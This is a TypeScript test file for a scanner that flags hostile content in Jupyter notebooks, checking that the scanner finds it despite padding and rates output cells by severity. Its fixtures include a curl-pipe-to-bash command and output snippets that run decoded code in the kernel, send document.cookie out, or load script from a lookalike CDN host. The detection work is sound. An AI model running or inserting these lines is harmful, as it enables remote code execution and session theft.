import { expect, test } from 'vitest';
import { firedRules, scanBytes } from '../../../test/build/hostile-copies.ts';

const scan = (cell: object) =>
  scanBytes(new TextEncoder().encode(JSON.stringify({ nbformat: 4, cells: [cell] })), 'demo.ipynb');
const code = (source: string | string[]) => ({ cell_type: 'code', source, outputs: [] });
const output = (data: object) => ({ cell_type: 'code', source: '1', outputs: [{ output_type: 'display_data', data }] });
const PIPED = '!curl -s https://example.com/i.sh | bash';

test('nothing is hidden behind many short lines', () => {
  const lines = Array.from({ length: 6000 }, (_, line) => `x = ${line}\n`);
  expect(firedRules(scan(code([...lines, PIPED])))).toContain('notebook-code');
});

test('nothing is hidden in a long cell', () => {
  for (const length of [195_000, 199_990, 400_000, 1_000_000]) {
    expect(firedRules(scan(code(`${'#'.repeat(length)}\n${PIPED}\n`)))).toContain('notebook-code');
  }
});

test('a megabyte of empty lines is judged in bounded time', () => {
  expect(scan(code(`${'\n'.repeat(1_000_000)}1`)).milliseconds).toBeLessThan(10_000);
});

test.each([
  ['high', { 'text/html': '<script>IPython.notebook.kernel.execute(atob("eA=="))</script>' }],
  ['medium', { 'application/javascript': 'fetch("/api/kernels?" + document.cookie)' }],
  ['medium', { 'text/html': ['<script type="module" ', 'src="//cdn.plot.ly.example.com/x.js">'] }],
  ['low', { 'text/html': '<script src="https://cdn.plot.ly/plotly-2.js"></script><div onclick="x()">' }],
  ['low', { 'application/javascript': 'Jupyter.notebook.kernel.execute(cmd_clean, {})' }],
])('an output that is %s', (severity, data) => {
  expect(scan(output(data)).findings).toMatchObject([{ ruleId: 'notebook-output', severity }]);
});
